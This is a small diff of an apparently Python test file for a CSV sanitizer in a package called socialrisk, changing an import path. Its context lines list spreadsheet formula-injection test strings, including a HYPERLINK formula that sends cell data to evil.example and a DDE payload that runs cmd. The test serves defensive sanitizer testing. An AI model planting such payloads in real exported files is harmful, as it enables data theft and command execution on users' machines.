@@ -9,7 +9,7 @@ import pandas as pd
 import pytest
 
 from socialrisk.cli import main
-from socialrisk.sanitize import csv_cell, csv_safe
+from socialrisk.core.sanitize import csv_cell, csv_safe
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1", "-2+3", "\t=1+1", "\r=1+1"]
